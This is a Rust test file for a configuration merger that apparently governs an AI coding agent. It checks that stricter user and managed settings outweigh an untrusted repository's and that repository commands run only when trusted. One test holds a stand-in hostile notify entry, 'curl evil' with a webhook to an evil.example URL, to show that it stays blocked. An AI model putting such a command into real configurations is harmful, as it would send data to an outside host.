//! What layers may do to each other.

mod models;
mod tools;

use jackline_engine::definition::{
    Checker, Dependency, Effect, Need, Opaque, Policy, PolicyRule, Rule, RuleScope, Rules,
    SequentialDependency, Shell, Tool, UnknownTools,
};
use jackline_engine::expr::Expr;
use jackline_engine::{Definition, Kind, Mode};

use super::*;

pub(super) fn user(definition: Definition) -> Layered {
    Layered { layer: Layer::User, file: "user.yaml".to_owned(), definition, modes: vec![] }
}

pub(super) fn managed(definition: Definition) -> Layered {
    Layered { layer: Layer::Managed, file: "managed.yaml".to_owned(), definition, modes: vec![] }
}

pub(super) fn repository(definition: Definition) -> Layered {
    Layered {
        layer: Layer::Repository,
        file: "jackline.yaml".to_owned(),
        definition,
        modes: vec![],
    }
}

fn untrusted(high: &Definition, low: &Definition) -> Combined {
    combine(vec![user(high.clone()), repository(low.clone())], false)
}

fn trusted(high: &Definition, low: &Definition) -> Combined {
    combine(vec![user(high.clone()), repository(low.clone())], true)
}

pub(super) fn of_file(source: &str) -> Definition {
    crate::load(source.as_bytes(), "f").unwrap()
}

pub(super) fn rule(name: &str, effect: Effect) -> Rule {
    Rule {
        name: name.to_owned(),
        origin: "f".to_owned(),
        scope: RuleScope::Kind(Kind::Exec),
        commands: vec!["git push".to_owned()],
        when: None,
        effect,
        mode: Mode::Enforce,
        message: "no".to_owned(),
        instead: None,
    }
}

fn rules(mode: Mode, list: &[Rule]) -> Definition {
    let list = list.iter().map(|rule| Rule { mode, ..rule.clone() }).collect();
    Definition { mode, rules: Rules::new(list), ..Definition::default() }
}

fn tools(list: &[Tool]) -> Definition {
    Definition { tools: list.to_vec(), ..Definition::default() }
}

pub(super) fn condition(text: &str) -> Expr {
    crate::cel::lower(text).unwrap()
}

pub(super) fn command(line: &str, number: u16, trusted: bool) -> Checker {
    Checker::Command { number, line: line.to_owned(), timeout_seconds: 60, trusted }
}

fn completing(checker: Checker) -> Definition {
    Definition { completion: Some(checker), ..Definition::default() }
}

/// What was ignored, as people read it.
pub(super) fn ignored(combined: &Combined) -> Vec<String> {
    let line = |line: &EffectiveLine| match &line.standing {
        Standing::InForce => None,
        Standing::Ignored { why, until_trusted } => {
            let trust = if *until_trusted { "; trust would let it" } else { "" };
            Some(format!("{} ignored: {why}{trust}", line.text))
        }
    };
    combined.decisions.iter().filter_map(line).collect()
}

fn in_force(combined: &Combined, subject: Subject) -> Vec<(String, Layer)> {
    let lines = combined
        .decisions
        .iter()
        .filter(|line| line.standing == Standing::InForce && line.subject == subject);
    lines.map(|line| (line.text.clone(), line.layer)).collect()
}

#[test]
fn one_layer_is_itself() {
    let definition = of_file(
        "name: acme/coder\nmode: observe\nlimits: { steps: 3 }\nfeedback_bytes_max: 9\n\
         sections: [ { name: a, tools: [x, y], policies: [ sequential_dependency: { x: [y] } ] } ]\n\
         completion: { files: [a] }\njournal: { redact: off, retain_days: 2 }\n",
    );
    for layer in [user, managed, repository] {
        for trust in [false, true] {
            let combined = combine(vec![layer(definition.clone())], trust);
            assert_eq!(combined.definition, definition);
            assert_eq!((ignored(&combined), combined.problems), (vec![], vec![]));
        }
    }
    assert_eq!(combine(Vec::new(), false).definition, Definition::default());
}

#[test]
fn a_setting_is_the_stricter_one_unless_trusted() {
    struct Row {
        high: &'static str,
        low: &'static str,
        is: &'static str,
        ignored: &'static str,
        trusted: &'static str,
    }
    let rows = [
        Row {
            high: "limits: { steps: 9 }",
            low: "mode: observe\nlimits: { wall_seconds: 9 }",
            is: "limits: { steps: 9, wall_seconds: 9 }",
            ignored: "`mode: observe` ignored: the user layer enforces; trust would let it",
            trusted: "mode: observe\nlimits: { steps: 9, wall_seconds: 9 }",
        },
        Row {
            high: "limits: { steps: 9 }",
            low: "mode: observe",
            is: "limits: { steps: 9 }",
            ignored: "`mode: observe` ignored: the user layer enforces; trust would let it",
            trusted: "mode: observe\nlimits: { steps: 9 }",
        },
        // What only the lower layer has is in the lower layer's mode.
        Row {
            high: "",
            low: "mode: observe\nlimits: { steps: 9 }",
            is: "mode: observe\nlimits: { steps: 9 }",
            ignored: "",
            trusted: "mode: observe\nlimits: { steps: 9 }",
        },
        Row {
            high: "mode: observe\nlimits: { steps: 9 }",
            low: "limits: { steps: 5 }",
            is: "limits: { steps: 5 }",
            ignored: "",
            trusted: "limits: { steps: 5 }",
        },
        Row {
            high: "limits: { steps: 5 }",
            low: "limits: { steps: 9 }",
            is: "limits: { steps: 5 }",
            ignored: "at most 9 steps a session ignored: the user layer has one that this does not tighten; trust would let it",
            trusted: "limits: { steps: 9 }",
        },
        // A smaller limit that only warns, or begins anew each turn, is no stricter one.
        Row {
            high: "limits: { steps: 9 }",
            low: "limits: { steps: { max: 5, soft: true } }",
            is: "limits: { steps: 9 }",
            ignored: "at most 5 steps a session, soft ignored: the user layer has one that this does not tighten; trust would let it",
            trusted: "limits: { steps: { max: 5, soft: true } }",
        },
        Row {
            high: "limits: { steps: 9 }",
            low: "limits: { steps: { max: 5, per: turn } }",
            is: "limits: { steps: 9 }",
            ignored: "at most 5 steps a turn ignored: the user layer has one that this does not tighten; trust would let it",
            trusted: "limits: { steps: { max: 5, per: turn } }",
        },
        Row {
            high: "completion: { files: [a] }\ncompletion_cap: { blocks: 9, same: 9 }",
            low: "completion: { files: [b] }\ncompletion_cap: { blocks: 1, same: 1 }",
            is: "completion: { all: [ files: [a], files: [b] ] }\ncompletion_cap: { blocks: 9, same: 9 }",
            ignored: "`completion_cap: blocked at most 1 times a turn, 1 times alike` ignored: the user layer has one of its own; trust would let it",
            trusted: "completion: { all: [ files: [a], files: [b] ] }\ncompletion_cap: { blocks: 1, same: 1 }",
        },
        // Nobody's default is somebody's word.
        Row {
            high: "name: dana/all",
            low: "completion: { files: [b] }\ncompletion_cap: { blocks: 1, same: 1 }",
            is: "name: dana/all\ncompletion: { files: [b] }\ncompletion_cap: { blocks: 1, same: 1 }",
            ignored: "",
            trusted: "name: dana/all\ncompletion: { files: [b] }\ncompletion_cap: { blocks: 1, same: 1 }",
        },
        Row {
            high: "name: dana/all\nfeedback_bytes_max: 10",
            low: "name: acme/coder\nfeedback_bytes_max: 20",
            is: "name: acme/coder\nfeedback_bytes_max: 10",
            ignored: "`feedback_bytes_max: 20` ignored: the user layer has the smaller one; trust would let it",
            trusted: "name: acme/coder\nfeedback_bytes_max: 20",
        },
        Row {
            high: "journal: { retain_days: 2 }",
            low: "journal: { redact: off, retain_days: 5, retain_bytes: 1 }",
            is: "journal: { retain_days: 5 }",
            ignored: "`journal.redact: off` ignored: the user layer has secrets taken out; trust would let it",
            trusted: "journal: { retain_days: 5 }",
        },
        Row {
            high: "feedback: [ { static: hello, every_n_calls: 2 } ]",
            low: "feedback: [ { static: hello, every_n_calls: 2 }, { static: bye, every_n_calls: 3 } ]",
            is: "feedback: [ { static: hello, every_n_calls: 2 }, { static: bye, every_n_calls: 3 } ]",
            ignored: "",
            trusted: "feedback: [ { static: hello, every_n_calls: 2 }, { static: bye, every_n_calls: 3 } ]",
        },
    ];
    for Row { high, low, is, ignored: expected, trusted: then } in rows {
        let (high, low) = (of_file(high), of_file(low));
        let combined = untrusted(&high, &low);
        assert_eq!(combined.definition, of_file(is), "{is}");
        assert_eq!(ignored(&combined).join("\n"), expected, "{is}");
        assert_eq!(trusted(&high, &low).definition, of_file(then), "trusted {then}");
    }
}

#[test]
fn the_strongest_answer_to_unknown_tools_and_opaque_lines_wins() {
    let strict = Definition {
        unknown_tools: UnknownTools::Deny,
        shell: Shell { opaque: Opaque::Ask },
        ..Definition::default()
    };
    let lax = Definition::default();
    let both =
        |combined: Combined| (combined.definition.unknown_tools, combined.definition.shell.opaque);
    assert_eq!(both(untrusted(&strict, &lax)), (UnknownTools::Deny, Opaque::Ask));
    assert_eq!(both(untrusted(&lax, &strict)), (UnknownTools::Deny, Opaque::Ask));
    assert_eq!(both(trusted(&strict, &lax)), (UnknownTools::Allow, Opaque::Allow));
    assert_eq!(
        ignored(&untrusted(&strict, &lax)),
        [
            "`unknown_tools: allow` ignored: the user layer denies them; trust would let it",
            "`shell.opaque: allow` ignored: the user layer demands more; trust would let it"
        ]
    );
}

#[test]
fn a_rule_keeps_the_mode_of_its_layer() {
    let high = rules(Mode::Enforce, &[rule("a", Effect::Deny)]);
    let low = rules(Mode::Observe, &[rule("b", Effect::Deny)]);
    let modes = |combined: Combined| -> Vec<(String, Mode)> {
        combined.definition.rules.iter().map(|rule| (rule.name.clone(), rule.mode)).collect()
    };
    let (a, b) = ("a".to_owned(), "b".to_owned());
    assert_eq!(
        modes(untrusted(&high, &low)),
        [(a.clone(), Mode::Enforce), (b.clone(), Mode::Observe)]
    );
    // A file that is trusted has the last word on the mode, but for what the
    // person enforces by name.
    assert_eq!(
        modes(trusted(&high, &low)),
        [(a.clone(), Mode::Observe), (b.clone(), Mode::Observe)]
    );
    let high = Layered { modes: vec![(a.clone(), Mode::Enforce)], ..user(high) };
    let combined = combine(vec![high, repository(low)], true);
    assert_eq!(modes(combined), [(a, Mode::Enforce), (b, Mode::Observe)]);
}

#[test]
fn a_repository_that_observes_does_not_silence_a_rule() {
    let high = rules(Mode::Enforce, &[rule("a", Effect::Deny)]);
    let low = of_file("mode: observe\nlimits: { steps: 9 }");
    // The rule holds by its own mode, and the limit is only the repository's.
    let combined = untrusted(&high, &low);
    assert_eq!((combined.definition.mode, ignored(&combined)), (Mode::Observe, vec![]));
    assert_eq!(combined.definition.rules, high.rules);
    let high = Definition { feedback: of_file(GUIDANCE).feedback, ..high };
    let combined = untrusted(&high, &low);
    assert_eq!(combined.definition.mode, Mode::Enforce);
    assert_eq!(
        ignored(&combined),
        ["`mode: observe` ignored: the user layer enforces; trust would let it"]
    );
    assert_eq!(trusted(&high, &low).definition.mode, Mode::Observe);
}

const GUIDANCE: &str = "feedback: [ { static: Look., every_n_calls: 3 } ]";

#[test]
fn everybody_is_told_and_an_untrusted_repository_runs_nothing() {
    let high = of_file("notify: { command: beep, on: [ask] }");
    let low = of_file("notify: { command: curl evil, webhook: 'https://a:b@evil.example/secret' }");
    let trusts = |combined: &Combined| {
        combined.definition.notify.iter().map(|told| told.trusted).collect::<Vec<_>>()
    };
    let told = |combined: &Combined| -> Vec<String> {
        let lines = combined.decisions.iter().filter(|line| line.subject == Subject::Notify);
        lines.map(|line| line.text.clone()).collect()
    };
    let (combined, with_trust) = (untrusted(&high, &low), trusted(&high, &low));
    assert_eq!((trusts(&combined), trusts(&with_trust)), (vec![true, false], vec![true, true]));
    assert_eq!(
        told(&combined),
        [
            "tells a person by `beep` of ask",
            "tells a person by `curl evil` and by https://evil.example of ask, pause, stop, done, guard_broken (not run until trusted)"
        ]
    );
    // What a person has themselves needs no trust.
    assert_eq!(trusts(&untrusted(&high, &high)), [true]);
}

#[test]
fn a_rule_is_there_once_and_is_the_higher_layers() {
    let theirs = rule("pack/a", Effect::Deny);
    let same = Rule { origin: "elsewhere".to_owned(), ..theirs.clone() };
    let high = rules(Mode::Enforce, std::slice::from_ref(&theirs));
    assert_eq!(untrusted(&high, &rules(Mode::Observe, &[same])).definition.rules, high.rules);
    // A layer that left it out does not take it from the others.
    assert_eq!(untrusted(&high, &rules(Mode::Enforce, &[])).definition.rules, high.rules);

    let weaker = rules(Mode::Enforce, &[rule("pack/a", Effect::Warn)]);
    let combined = untrusted(&high, &weaker);
    assert_eq!(combined.definition.rules, high.rules);
    assert_eq!(
        ignored(&combined),
        [
            "`pack/a` warns of `git push` ignored: the user layer has another rule of that name; trust would let it"
        ]
    );
    let combined = trusted(&high, &weaker);
    assert_eq!(combined.definition.rules, weaker.rules);
    assert_eq!(
        ignored(&combined),
        [
            "`pack/a` denies `git push` ignored: the repository layer says otherwise, and its file is trusted"
        ]
    );
}

#[test]
fn the_same_rule_holds_where_either_layer_has_it_hold() {
    let one = rule("a", Effect::Deny);
    let combined = untrusted(
        &rules(Mode::Observe, std::slice::from_ref(&one)),
        &rules(Mode::Enforce, std::slice::from_ref(&one)),
    );
    assert_eq!(combined.definition.rules, Rules::new(vec![one]));
}

#[test]
fn trust_outweighs_the_person_and_not_the_owner_of_the_machine() {
    let (owner, person) = (of_file("limits: { steps: 50 }"), of_file("limits: { steps: 20 }"));
    let wish = of_file("mode: observe\nlimits: { steps: 90 }");
    let layers = || vec![repository(wish.clone()), managed(owner.clone()), user(person.clone())];
    assert_eq!(combine(layers(), false).definition, person);
    let combined = combine(layers(), true);
    assert_eq!(combined.definition, owner);
    assert_eq!(
        ignored(&combined),
        [
            "`mode: enforce` ignored: the repository layer says otherwise, and its file is trusted",
            "at most 20 steps a session ignored: the repository layer says otherwise, and its file is trusted",
            "`mode: observe` ignored: the managed layer enforces",
            "at most 90 steps a session ignored: the managed layer has one that this does not tighten",
        ]
    );
    // A person can't loosen what the owner of the machine demands.
    let combined = combine(vec![managed(person.clone()), user(owner.clone())], true);
    assert_eq!(combined.definition, person);
}

#[test]
fn a_repositorys_commands_run_only_when_trusted() {
    let own = Checker::Any(vec![command("make a", 7, true), command("make b", 8, true)]);
    let theirs = Checker::All(vec![command("make c", 0, false), command("make d", 1, false)]);
    let alone = combine(vec![repository(completing(own.clone()))], false);
    assert_eq!(
        alone.definition.completion,
        Some(Checker::Any(vec![command("make a", 0, false), command("make b", 1, false)]))
    );
    let expected = |trust: bool| {
        Some(Checker::All(vec![
            Checker::All(vec![command("make c", 0, true), command("make d", 1, true)]),
            Checker::Any(vec![command("make a", 2, trust), command("make b", 3, trust)]),
        ]))
    };
    let (high, low) = (completing(theirs.clone()), completing(own));
    assert_eq!(untrusted(&high, &low).definition.completion, expected(false));
    assert_eq!(trusted(&high, &low).definition.completion, expected(true));
    // What the person demands too is theirs to run.
    assert_eq!(
        untrusted(&high, &completing(theirs)).definition.completion,
        Some(Checker::All(vec![command("make c", 0, true), command("make d", 1, true)]))
    );
}

#[test]
fn policies_are_all_in_force_and_sections_stay_apart() {
    let high = of_file(
        "sections: [ { name: a, tools: [x, y], policies: [ sequential_dependency: { x: [y] } ] } ]\n\
         policies: [ sequential_dependency: { p: [q] } ]",
    );
    let low = of_file(
        "sections: [ { name: b, tools: [x, z], policies: [ sequential_dependency: { x: [z] } ] } ]\n\
         policies: [ sequential_dependency: { p: [q] } ]",
    );
    let combined = untrusted(&high, &low);
    let sections: Vec<_> = combined.definition.policies.iter().map(|p| p.section).collect();
    assert_eq!(sections, [Some(0), Some(1), None]);
    let of = |name: &str| {
        let tool = combined.definition.tools.iter().find(|tool| tool.name == name);
        tool.unwrap().sections.clone()
    };
    assert_eq!((of("x"), of("y"), of("z")), (vec![0, 1], vec![0], vec![1]));
    assert_eq!(
        in_force(&combined, Subject::Policy),
        [
            ("x needs y".to_owned(), Layer::User),
            ("x needs z".to_owned(), Layer::Repository),
            ("p needs q".to_owned(), Layer::User)
        ]
    );
}

#[test]
fn layers_that_cannot_be_obeyed_together_are_a_problem() {
    let needs = |tool: &str, need: &str| {
        of_file(&format!("policies: [ sequential_dependency: {{ {tool}: [{need}] }} ]"))
    };
    assert_eq!(
        untrusted(&needs("a", "b"), &needs("b", "a")).problems,
        ["a cycle that nothing can satisfy: `a` needs `b` needs `a`"]
    );
    let many = |from: usize| {
        let dependency = |number: usize| Dependency {
            tool: "deploy".to_owned(),
            needs: vec![Need { tool: format!("t{number}"), fresh: false }],
        };
        let rule = SequentialDependency::new((from..from + 200).map(dependency).collect());
        let rule = PolicyRule::SequentialDependency(rule);
        Definition { policies: vec![Policy { section: None, rule }], ..Definition::default() }
    };
    assert_eq!(
        untrusted(&many(0), &many(200)).problems,
        ["400 prerequisites; at most 256 are kept"]
    );
}

#[test]
fn each_demand_says_whose_it_is() {
    let of_pack = Rule { origin: "pack git".to_owned(), ..rule("git/push", Effect::Ask) };
    let high =
        Definition { protected: vec!["keys/".to_owned()], ..rules(Mode::Enforce, &[of_pack]) };
    let low = of_file("name: acme/coder\nlimits: { steps: 3 }\ncompletion: { files: [a] }");
    let lines = untrusted(&high, &low).decisions;
    let shown: Vec<String> = lines
        .iter()
        .map(|line| {
            let origin = line.origin.as_deref().unwrap_or("-");
            format!("{} | {} | {} {}", line.subject.word(), line.text, line.file, origin)
        })
        .collect();
    assert_eq!(
        shown,
        [
            "setting | name: acme/coder | jackline.yaml -",
            "setting | mode: enforce | jackline.yaml -",
            "setting | completion_cap: blocked at most 5 times a turn, 3 times alike | jackline.yaml -",
            "limit | at most 3 steps a session | jackline.yaml -",
            "protected | `keys/` | user.yaml -",
            "completion | a | jackline.yaml -",
            "rule | `git/push` asks a person about `git push` | user.yaml pack git",
        ]
    );
}

#[test]
fn a_limit_on_iterations_keeps_the_steps_it_counts() {
    let high = of_file("limits: { iterations: 3 }");
    let low = |steps: u32| {
        of_file(&format!(
            "progress: {{ max_consecutive_failures: 2, steps_per_iteration: {steps} }}"
        ))
    };
    let steps =
        |combined: &Combined| combined.definition.progress.as_ref().unwrap().steps_per_iteration;
    let combined = untrusted(&high, &low(80));
    assert_eq!(combined.definition.progress, low(50).progress);
    assert_eq!(
        ignored(&combined),
        [
            "`progress.steps_per_iteration: 80` ignored: the user layer counts iterations of 50 steps; trust would let it"
        ]
    );
    assert_eq!(steps(&trusted(&high, &low(80))), 80);
    let layers = vec![managed(high.clone()), user(low(80)), repository(low(90))];
    assert_eq!(steps(&combine(layers, true)), 50);
    // Shorter ones reach the limit sooner; and where nothing counts them, they are the repository's.
    assert_eq!(steps(&untrusted(&high, &low(20))), 20);
    assert_eq!(steps(&untrusted(&of_file("limits: { steps: 3 }"), &low(80))), 80);
}

#[test]
fn what_an_iteration_is_says_the_higher_layer() {
    let high = of_file("progress: { exempt_phases: [plan, review] }");
    let low = of_file(
        "progress: { max_consecutive_failures: 2, exempt_phases: [plan, build], steps_per_iteration: 20 }",
    );
    let combined = untrusted(&high, &low);
    let both = of_file("progress: { max_consecutive_failures: 2, exempt_phases: [plan] }");
    assert_eq!(combined.definition, both);
    let lines = ignored(&combined);
    assert_eq!(lines.len(), 1);
    assert!(
        lines[0].ends_with("ignored: the user layer demands more in part; trust would let it"),
        "{lines:?}"
    );
    assert_eq!(trusted(&high, &low).definition, low);
}

#[test]
fn a_repositorys_full_context_skips_no_check() {
    let high = of_file("completion: { clean: {} }");
    let low = of_file("context: { warn: 1, compact: 1, block: 1 }");
    let combined = untrusted(&high, &low);
    assert_eq!(combined.definition.context, None);
    assert_eq!(
        ignored(&combined),
        [
            "`context`: warn at 1 %, compact at 1 %, block at 1 % ignored: the user layer has checks that a full context would skip; trust would let it"
        ]
    );
    assert_eq!(trusted(&high, &low).definition.context, low.context);
    // Nobody is told later that the context fills up, and a check is skipped as before.
    let high = of_file("completion: { clean: {} }\ncontext: {}");
    let low = of_file("context: { warn: 50, compact: 60, ineffective_max: 1 }");
    assert_eq!(untrusted(&high, &low).definition.context, low.context);
}

#[test]
fn a_repository_cannot_cut_short_what_another_layer_says() {
    let (high, low) = (of_file(GUIDANCE), of_file("feedback_bytes_max: 1"));
    assert_eq!(untrusted(&high, &low).definition, high);
    assert_eq!(
        ignored(&untrusted(&high, &low)),
        [
            "`feedback_bytes_max: 1` ignored: the user layer has feedback of its own; trust would let it"
        ]
    );
    assert_eq!(untrusted(&low, &high).definition.feedback_bytes_max, 1);
}
